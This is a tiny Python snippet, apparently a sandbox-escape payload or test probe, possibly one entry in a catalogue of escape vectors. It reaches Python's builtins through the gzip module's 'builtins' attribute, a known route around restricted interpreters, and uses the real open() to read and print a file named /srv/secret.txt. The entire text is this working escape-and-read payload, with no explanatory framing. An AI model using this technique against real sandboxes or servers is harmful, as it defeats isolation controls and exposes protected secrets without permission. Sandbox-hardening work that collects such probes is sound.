# reaches: gzip carries builtins
import gzip
print(gzip.builtins.open("/srv/secret.txt").read())
